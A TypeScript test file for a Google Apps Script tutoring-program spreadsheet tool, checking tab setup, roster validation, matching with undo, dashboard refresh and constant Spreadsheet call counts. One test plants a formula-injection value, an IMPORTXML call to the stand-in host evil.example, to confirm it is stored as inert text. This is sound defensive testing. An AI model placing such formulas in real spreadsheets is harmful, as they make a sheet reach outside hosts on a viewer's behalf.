// The built bundle runs the teacher's menu items against the Apps Script fakes: tabs are created,
// rerunning changes nothing, problems are found and marked, and the number of Spreadsheet calls
// stays the same whether the roster has 10 or 5,000 students.
import { CONTRACT_TABS } from '../../src/sheets/program/schema';
import { createAppsScriptFakes, type AppsScriptFakes } from '../fakes/apps-script';
import { entryPoint, loadBundle } from '../support/load-bundle';
import { fixtureTabs, rosterTabs, setCell } from '../support/program-fixture';

function seeded(tabs: Record<string, unknown[][]>): AppsScriptFakes {
  const fakes = createAppsScriptFakes({ timeZone: 'America/New_York' });
  for (const [name, grid] of Object.entries(tabs)) fakes.seedSheet(name, grid);
  return fakes;
}

function run(fakes: AppsScriptFakes, name: string, ...args: unknown[]): unknown {
  return entryPoint(loadBundle(fakes), name)(...args);
}

function contents(fakes: AppsScriptFakes): Record<string, unknown[][]> {
  const sheets = fakes.spreadsheet.getSheets();
  return Object.fromEntries(sheets.map((sheet) => [sheet.getName(), sheet.getDataRange().getValues()]));
}

describe('Set up program (built bundle)', () => {
  it('creates every tab with bold, frozen, protected headers, notes and dropdowns', () => {
    const fakes = createAppsScriptFakes();
    run(fakes, 'menuSetUpProgram');
    for (const tab of CONTRACT_TABS) {
      const sheet = fakes.spreadsheet.getSheetByName(tab.name)!;
      expect(sheet.getRange(1, 1, 1, tab.columns.length).getValues()[0]).toEqual(tab.columns.map((c) => c.header));
      expect(sheet.getFrozenRows()).toBe(1);
      expect(fakes.cell(tab.name, 1, 1).fontWeight).toBe('bold');
      expect(fakes.cell(tab.name, 1, 1).note).toBe(tab.columns[0].note);
    }
    const role = fakes.cell('Students', 2, 5).validation!;
    expect(role.getCriteriaValues()[0]).toEqual(['Tutor', 'Tutee', 'Both']);
    const protections = fakes.spreadsheet.getSheetByName('Students')!.getProtections(SpreadsheetAppProtectionRange(fakes));
    expect(protections).toHaveLength(1);
    expect(protections[0].isWarningOnly()).toBe(true);
    expect(fakes.ui.alerts.at(-1)!.prompt).toContain('Created tabs: Settings, Blocks, Students, Pairs, Waitlist, Sessions');
  });

  it('changes nothing when run again, keeping the teacher’s columns and rows', () => {
    const tabs = fixtureTabs();
    tabs.Students = tabs.Students.map((row, i) => [...row, i === 0 ? 'Homeroom' : `Room ${i}`]);
    const fakes = seeded(tabs);
    run(fakes, 'menuSetUpProgram');
    const first = contents(fakes);
    const protections = fakes.spreadsheet.getSheetByName('Students')!.getProtections(SpreadsheetAppProtectionRange(fakes)).length;
    fakes.calls.reset();
    run(fakes, 'menuSetUpProgram');
    expect(contents(fakes)).toEqual(first);
    expect(fakes.calls.count('Range.setValues')).toBe(0);
    expect(fakes.spreadsheet.getSheetByName('Students')!.getProtections(SpreadsheetAppProtectionRange(fakes))).toHaveLength(protections);
    expect(first.Students[0]).toContain('Homeroom');
    expect(first.Students[3]).toContain('Room 3');
  });
});

function SpreadsheetAppProtectionRange(fakes: AppsScriptFakes) {
  return fakes.SpreadsheetApp.ProtectionType.RANGE;
}

describe('Check roster (built bundle)', () => {
  it('finds every planted error, marks the cells and shows them in a dialog; a clean roster has none', () => {
    const tabs = fixtureTabs();
    setCell(tabs, 'Students', 2, 'Can tutor', 'Math four');
    setCell(tabs, 'Students', 3, 'Grade', 'seventh');
    setCell(tabs, 'Blocks', 3, 'Day', 'Someday');
    const fakes = seeded(tabs);
    run(fakes, 'menuCheckRoster');
    const dialog = fakes.ui.dialogs.at(-1)!;
    expect(dialog.title).toBe('Roster check');
    const html = dialog.output.getContent();
    expect(html).toContain('3 problems found');
    expect(html).toContain('Students row 2, &#34;Can tutor&#34;: &#34;Math four&#34; is not a subject and level like &#34;Math 4&#34;');
    // Each line is a button that takes the teacher to its cell.
    expect(html).toContain('<button type="button" class="cell" data-tab="Students" data-row="2" data-column="6">Students row 2');
    expect(html).toContain('google.script.run.selectCell(');
    expect(dialog.modal).toBe(false);
    expect(fakes.cell('Students', 2, 6).note).toContain('is not a subject and level');
    expect(fakes.cell('Students', 3, 4).note).toContain('is not a grade from K to 12');
    expect(fakes.cell('Blocks', 3, 2).note).toContain('should be one of Mon');

    const clean = seeded(fixtureTabs());
    run(clean, 'menuCheckRoster');
    expect(clean.ui.dialogs.at(-1)!.output.getContent()).toContain('No problems found');
  });

  it('costs the same number of Spreadsheet calls for 10 and for 5,000 students', () => {
    const callsFor = (count: number, entry: string) => {
      const fakes = seeded(rosterTabs(count));
      run(fakes, 'menuSetUpProgram');
      fakes.calls.reset();
      run(fakes, entry);
      return fakes.calls.snapshot();
    };
    for (const entry of ['menuCheckRoster', 'menuSetUpProgram']) {
      const small = callsFor(10, entry);
      const large = callsFor(5000, entry);
      expect({ entry, calls: large }).toEqual({ entry, calls: small });
    }
  });
});

describe('Match and apply (built bundle)', () => {
  it('writes Pairs and Waitlist with a constant number of Spreadsheet calls, and undo restores them', () => {
    const callsFor = (count: number) => {
      const fakes = seeded(rosterTabs(count));
      run(fakes, 'menuSetUpProgram');
      fakes.calls.reset();
      const outcome = run(fakes, 'applyMatches', { options: { locked: [], swapped: [], excluded: [] } }) as { report: { pairsWritten: number; version: number } };
      const report = outcome.report;
      return { fakes, report, calls: fakes.calls.snapshot() };
    };
    const small = callsFor(12);
    const large = callsFor(600);
    expect(large.report.pairsWritten).toBeGreaterThan(small.report.pairsWritten);
    expect(large.calls).toEqual(small.calls);
    const pairs = small.fakes.spreadsheet.getSheetByName('Pairs')!.getDataRange().getValues();
    expect(pairs.length - 1).toBe(small.report.pairsWritten);
    expect(run(small.fakes, 'undoChange', small.report.version)).toEqual({ restored: ['Pairs', 'Waitlist'], label: 'Apply matching' });
    expect(small.fakes.spreadsheet.getSheetByName('Pairs')!.getDataRange().getValues()).toHaveLength(1);
  });

  it('stores a name that looks like a formula as text', () => {
    const tabs = fixtureTabs();
    // Typed with a leading apostrophe (or imported as text), so the roster holds it as text.
    setCell(tabs, 'Students', 3, 'Name', `'=IMPORTXML("http://evil.example","//a")`);
    const fakes = seeded(tabs);
    run(fakes, 'menuSetUpProgram');
    run(fakes, 'applyMatches', { options: { locked: [], swapped: [], excluded: [] } });
    const pairs = fakes.spreadsheet.getSheetByName('Pairs')!;
    expect(pairs.getDataRange().getFormulas().flat().filter((f) => f !== '')).toEqual([]);
    expect(pairs.getDataRange().getValues().flat()).toContain('=IMPORTXML("http://evil.example","//a")');
    // Set up program rewrote Students to add its optional columns: the name stayed text there too.
    expect(fakes.spreadsheet.getSheetByName('Students')!.getDataRange().getFormulas().flat().filter((f) => f !== '')).toEqual([]);
  });
});

describe('Refresh dashboard (built bundle)', () => {
  it('writes Mastery, Alerts and Dashboard with the same number of Spreadsheet calls for 12 and 600 students', () => {
    const callsFor = (count: number) => {
      const fakes = seeded(rosterTabs(count));
      run(fakes, 'menuSetUpProgram');
      run(fakes, 'applyMatches', { options: { locked: [], swapped: [], excluded: [] } });
      fakes.calls.reset();
      run(fakes, 'menuRefreshDashboard');
      return { fakes, calls: fakes.calls.snapshot() };
    };
    const small = callsFor(12);
    const large = callsFor(600);
    expect(large.calls).toEqual(small.calls);
    expect(large.fakes.ui.alerts.at(-1)!.prompt).toMatch(/^The Dashboard, Alerts and Mastery tabs are up to date; \d+ alerts? (is|are) open/);
    expect(large.fakes.spreadsheet.getSheetByName('Dashboard')!.getRange(1, 1).getValue()).toMatch(/: dashboard$/);
  });
});
